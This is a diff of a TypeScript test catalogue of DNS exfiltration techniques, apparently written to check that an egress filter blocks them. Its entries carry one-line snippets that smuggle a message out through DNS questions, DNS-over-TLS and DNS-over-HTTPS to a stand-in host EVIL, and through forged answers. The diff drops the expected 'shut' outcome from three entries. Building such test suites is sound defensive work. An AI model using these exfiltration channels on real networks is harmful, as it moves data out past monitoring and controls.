@@ -1,7 +1,6 @@
 import { refused, type TechniqueClass } from "../technique.ts";
 
 const REFUSED = refused("dns", "domain");
-const HERE = "it is answered or refused on the spot, and asked of nobody";
 
 /** A question is a way out as well: its name carries a message to whoever answers for the name. */
 export const questions: TechniqueClass = {
@@ -68,8 +67,6 @@ export const questions: TechniqueClass = {
       "dns-additional",
       "with a message after an allowed question",
       "send(question('allowed.test', extras=1, extra=wire(BAD) + b'\\0\\x10\\0\\1\\0\\0\\0\\0\\0\\0'))",
-      "shut",
-      HERE,
     ],
     [
       "dns-edns",
@@ -177,13 +174,7 @@ export const resolvers: TechniqueClass = {
       "shut",
       "a plain network's gateway has none",
     ],
-    [
-      "other-dot",
-      "one of the internet over TLS",
-      "ask_tcp(question(BAD), server=EVIL, port=8443, secure=True)",
-      "shut",
-      "the question is inside TLS",
-    ],
+    ["other-dot", "one of the internet over TLS", "ask_tcp(question(BAD), server=EVIL, port=8443, secure=True)"],
     ["other-doh", "over HTTPS, by its own name", "inside(BAD, BAD, '/dns-query')", refused("tls", "domain")],
     ["other-doh-plain", "over HTTP", "http(doh(BAD, BAD))", refused("http", "domain")],
     ["other-doh-address", "over HTTPS, by its address", "inside(BAD, EVIL, '/dns-query')", refused("tls", "domain")],
@@ -212,8 +203,6 @@ export const resolvers: TechniqueClass = {
       "other-forged-answer",
       "itself, by answers to the gateway's own questions",
       "[by(gateway(), ipv4(OUTER_GATEWAY, 17, udp_part(OUTER_GATEWAY, 40000 + n, question(BAD, flags=0x8180), source=DNS, source_port=53), source=DNS), times=1) for n in range(20)]",
-      "shut",
-      "it is for the gateway alone",
     ],
   ],
 };
